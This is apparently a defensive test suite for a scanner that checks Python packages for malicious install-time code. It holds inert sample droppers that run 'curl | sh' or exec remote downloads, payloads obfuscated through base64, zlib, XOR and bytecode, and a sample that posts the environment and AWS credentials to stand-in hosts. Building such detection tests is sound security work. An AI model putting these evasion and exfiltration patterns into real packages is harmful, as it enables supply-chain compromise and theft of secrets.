/** What was known to get around a scanner of this kind: each row must still be seen. All payloads are inert. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import type { ScanResult } from '../../src/contracts/result.ts';
import { scanBytes, scanDirectory } from '../../src/pipeline.ts';
import { type TarEntrySpec, tar } from '../support/tar-writer.ts';
import { zip } from '../support/zip-writer.ts';

/** What no host of this name can answer. */
const URL = 'http://updates.example.invalid/x';
const FETCH = `import urllib.request\nexec(urllib.request.urlopen('${URL}').read())\n`;
const DROPPER = `import os, base64, urllib.request
from setuptools import setup
exec(base64.b64decode(urllib.request.urlopen('${URL}').read()))
os.system('curl ${URL} | sh')
setup(name='own', version='1.0')
`;
const SETUP = "from setuptools import setup\nsetup(name='own', version='1.0', packages=['own'])\n";
const PAYLOAD = `import os\nos.system('curl ${URL} | sh')\n# what a decoder hides\n`;

/** FETCH compiled by CPython 3.11: as a .pyc file, and as its code object packed by zlib. */
const PYC =
  'pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAAFAAAAAAAAAPN4AAAAlwBkAGQBbABaAQIAZQJlAWoDAAAAAAAAAACgBAAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAKAFAAAAAAAAAAAAAAAAAAAAAAAAAACmAAAAqwAAAAAAAAAAAKYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56IGh0dHA6Ly91cGRhdGVzLmV4YW1wbGUuaW52YWxpZC94KQbaDnVybGxpYi5yZXF1ZXN02gZ1cmxsaWLaBGV4ZWPaB3JlcXVlc3TaB3VybG9wZW7aBHJlYWSpAPMAAAAA+gxvd24vc3RhcnQucHn6CDxtb2R1bGU+cgwAAAABAAAAc0QAAADwAwEBAdgAFdAAFdAAFdAAFdgABIAEgFaEXtcFG9IFG9AcPtEFP9QFP9cFRNIFRNEFRtQFRtEAR9QAR9AAR9AAR9AAR3IKAAAA';
const MARSHALLED =
  'eJx7zIAEWKH05wogMZ0hhSGFMYchipGJIZUplTGLGaZsAQsDFpDCtIyRgWE1I1wVKzZVy4B4NYKHooMRaF8wgybzSxDHr0oho6SkwEpfv7QgJbEktVgvtSIxtyAnVS8zrywxJzNFv0KT7RZfaVFOTmaSXlFqYWlqccktNgj/FktqRWryLXaYMDtQOL8gNe8WS1FqYspKhs8gG37x5Jfn6ReXJBaV6BVU/uKwyc1PKc1JtSviAbuFgaHYBUh8YGZkZLzBIHoBhm4wsDSwNIS1xF1nlb7EKn1Bxu4iq/0VVvvrrC6XWF0usrpdYXW7yOB+hcH9AgwVcQENAgAnzlU8';

type Files = Record<string, string | Uint8Array>;

function sdist(files: Files, more: TarEntrySpec[] = []): ScanResult {
  const metadata = 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\nSummary: A small library\n';
  const members = Object.entries({ 'PKG-INFO': metadata, ...files }).map(([name, data]) => ({
    name: `own-1.0/${name}`,
    data,
  }));
  return scanBytes('own-1.0.tar.gz', 'own-1.0.tar.gz', gzipSync(tar([...members, ...more])));
}

const base64 = (text: string | Uint8Array): string => Buffer.from(text).toString('base64');
const hex = (bytes: Uint8Array): string =>
  [...bytes].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('');

/** Name and files of distributions that do what DROPPER does, each in another way. */
const EVASIONS: [string, Files][] = [
  ['a dropper in setup.py', { 'setup.py': DROPPER }],
  ['an opened triple quote in a text', { 'setup.py': `q = '"""'\n${DROPPER}` }],
  ['an opened triple quote in a comment', { 'setup.py': `# '''\n${DROPPER}` }],
  [
    'names imported from modules',
    {
      'setup.py': `from urllib.request import urlopen as u\nfrom base64 import b64decode as d\nexec(d(u('${URL}').read()))\n${SETUP}`,
    },
  ],
  [
    'an alias of exec',
    { 'setup.py': `import urllib.request\ne = exec\ne(urllib.request.urlopen('${URL}').read())\n${SETUP}` },
  ],
  [
    'a command line in pieces',
    { 'setup.py': `import os\nos.system('cu' + 'rl ' + '${URL}' + ' | ' + 's' + 'h')\n${SETUP}` },
  ],
  [
    'modules and functions by computed names',
    {
      'setup.py': `import builtins as b\nr = __import__("re" + "quests")\ngetattr(b, "ex" + "ec")(r.get('${URL}').text)\n${SETUP}`,
    },
  ],
  [
    'a download that is written and run at import',
    {
      'setup.py': SETUP,
      'own/__init__.py': `import requests, subprocess, tempfile, os\np = os.path.join(tempfile.gettempdir(), 'helper')\nwith open(p, 'wb') as f:\n    f.write(requests.get('${URL}').content)\nos.chmod(p, 0o755)\nsubprocess.run([p])\n`,
    },
  ],
  [
    'environment and keys to a domain of its own',
    {
      'setup.py': SETUP,
      'own/__init__.py': `import os, requests\nkeys = open(os.path.join(os.path.expanduser('~'), '.a' + 'ws', 'creden' + 'tials')).read()\nrequests.post('https://collect.example.invalid/', json={'e': dict(os.environ), 'k': keys})\n`,
    },
  ],
  [
    'the program in a text file',
    {
      'setup.py': SETUP,
      'own/__init__.py':
        "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'words.txt')).read())\n",
      'own/words.txt': FETCH,
    },
  ],
  [
    'the program in bytecode without source',
    {
      'setup.py': SETUP,
      'own/__init__.py': 'from . import start\n',
      'own/start.pyc': Buffer.from(PYC, 'base64'),
    },
  ],
  [
    'the program in a nested archive',
    {
      'setup.py': `import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'data.zip'))\nimport start\n${SETUP}`,
      'data.zip': zip([{ name: 'start.py', data: FETCH }]),
    },
  ],
  [
    'an alias of a decoder',
    { 'setup.py': `import base64\nd = base64.b64decode\nexec(d('${base64(PAYLOAD)}'))\n${SETUP}` },
  ],
  [
    'marshalled bytecode',
    {
      'setup.py': `import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('${MARSHALLED}'))))\n${SETUP}`,
    },
  ],
  [
    'compressed text',
    { 'setup.py': `import zlib\nexec(zlib.decompress(b'${hex(deflateSync(PAYLOAD))}'))\n${SETUP}` },
  ],
  [
    'bytes behind exclusive or',
    {
      'setup.py': `d = b'${hex(Buffer.from(PAYLOAD).map((byte) => byte ^ 42))}'\nexec(bytes(b ^ 42 for b in d))\n${SETUP}`,
    },
  ],
  [
    'many decoys beside one upload',
    {
      'setup.py': SETUP,
      'own/names.py': `NAMES = [${Array.from({ length: 400 }, (_, i) => `'settings_${i}.env'`).join(', ')}]\n`,
      'own/__init__.py': `import os, requests\nrequests.post('https://collect.example.invalid/', data=str(dict(os.environ)))\n`,
    },
  ],
];

/** Name and files of honest distributions that look a little like the others. */
const HONEST: [string, Files][] = [
  [
    'a setup.py that quotes an address',
    { 'setup.py': `from urllib.parse import quote\n${SETUP}print(quote('a b'))\n`, 'own/__init__.py': '' },
  ],
  ['a setup.py that imports socket', { 'setup.py': `import socket\n${SETUP}`, 'own/__init__.py': '' }],
  [
    'a client of a chat service',
    {
      'setup.py': SETUP,
      'own/__init__.py':
        "import requests\n\n\nclass Client:\n    BASE = 'https://api.telegram.org/bot'\n\n    def __init__(self, token):\n        self.token = token\n\n    def send(self, chat, text):\n        return requests.post(self.BASE + self.token + '/sendMessage', json={'chat_id': chat, 'text': text})\n",
    },
  ],
];

const SEEN = ['malicious', 'suspicious'];

describe('known evasions', () => {
  for (const [name, files] of EVASIONS) {
    it(name, () => {
      const { verdict, score } = sdist(files);
      assert.ok(SEEN.includes(verdict), `${verdict} ${score}`);
    });
  }

  it('a link to nothing in the archive', () => {
    const link: TarEntrySpec = { name: 'own-1.0/docs', type: '2', link: '../../nowhere' };
    assert.ok(SEEN.includes(sdist({ 'setup.py': DROPPER }, [link]).verdict));
  });

  it('thirty megabytes of zeros in the archive', () => {
    const zeros: TarEntrySpec = { name: 'own-1.0/data.bin', data: new Uint8Array(30 * 1024 * 1024) };
    assert.ok(SEEN.includes(sdist({ 'setup.py': DROPPER }, [zeros]).verdict));
  });

  it('a link to nothing in a directory', () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'known-evasions-'));
    try {
      mkdirSync(path.join(folder, 'own'));
      writeFileSync(path.join(folder, 'setup.py'), DROPPER);
      symlinkSync('/nonexistent/target', path.join(folder, 'own', 'link.py'));
      assert.ok(SEEN.includes(scanDirectory(folder, 'own', folder).verdict));
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

describe('honest distributions', () => {
  for (const [name, files] of HONEST) {
    it(name, () => {
      const { verdict, score, findings } = sdist(files);
      assert.equal(verdict, 'no-findings', `${score} ${findings.map(({ rule }) => rule).join(' ')}`);
    });
  }
});
